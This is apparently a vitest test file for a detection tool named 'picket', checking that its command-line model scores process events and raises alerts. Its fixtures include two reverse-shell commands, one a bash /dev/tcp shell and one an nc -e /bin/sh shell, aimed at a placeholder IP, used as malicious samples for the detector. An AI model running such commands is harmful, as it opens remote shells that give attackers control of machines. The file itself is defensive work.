import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, expect, test } from "vitest";

const dir = mkdtempSync(join(tmpdir(), "picket-model-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const exec = (...argv: string[]) =>
  JSON.stringify({ type: "process.exec", timeMs: 1000, device: "gw-1", body: { process: { exe: "/usr/bin/env", argv } } });

async function picket(lines: readonly string[], ...args: string[]) {
  const file = join(dir, "events.ndjson");
  writeFileSync(file, lines.join("\n"));
  const child = Bun.spawn(["bun", new URL("../main.ts", import.meta.url).pathname, ...args, file], { stdout: "pipe", stderr: "pipe" });
  const [stdout, stderr] = await Promise.all([child.stdout.text(), child.stderr.text()]);
  return { code: await child.exited, stdout, stderr };
}

const stop = JSON.stringify({ type: "agent.stop", timeMs: 1000, device: "gw-1", body: { why: "x" }, id: "last" });

test("model score prints a score for each event, in order, worse ones higher", async () => {
  const { code, stdout } = await picket(
    [exec("ls", "-la"), exec("sh", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), stop],
    "model",
    "score",
    "cmdline",
    "--json",
  );
  const scored = stdout
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line) as { id: string; score: number });
  expect(scored.map(({ id }) => id)).toEqual(["gw-1:recorded:0", "gw-1:recorded:1", "last"]);
  expect(scored[0]!.score).toBeLessThan(0.5);
  expect(scored[1]!.score).toBeGreaterThan(0.9);
  expect(scored[2]!.score).toBe(0);
  expect(code).toBe(0);
});

test("a line that is no event is named; the rest is scored, and the exit code says so", async () => {
  const { code, stdout, stderr } = await picket(["nonsense", exec("ls")], "model", "score", "cmdline");
  expect(stderr).toMatch(/events\.ndjson:1: error: /);
  expect(stdout).toMatch(/^0\.\d{4} {2}gw-1:recorded:1\n$/);
  expect(code).toBe(1);
});

test("a model that does not exist is a usage error that names those that do", async () => {
  const { code, stderr } = await picket([], "model", "score", "nonsense");
  expect(stderr).toContain("choose from cmdline");
  expect(code).toBe(2);
});

test("replay gives an alert of the model with the words that made it, unless what ships is left out", async () => {
  const lines = [exec("ls", "-la"), exec("nc", "-e", "/bin/sh", "198.51.100.7", "4444")];
  const ours = (stdout: string) => stdout.split("\n").filter((line) => line.includes("picket-model-cmdline"));
  const { code, stdout } = await picket(lines, "replay", "--json");
  const [alert] = ours(stdout).map((line) => JSON.parse(line));
  expect(alert).toMatchObject({ rule: { engine: "onnx" }, events: ["gw-1:recorded:1"], attack: { techniques: ["T1059"] } });
  expect(alert.summary).toContain("mostly because of");
  expect(code).toBe(0);
  expect(ours((await picket(lines, "replay", "--json", "--no-builtin")).stdout)).toEqual([]);
});
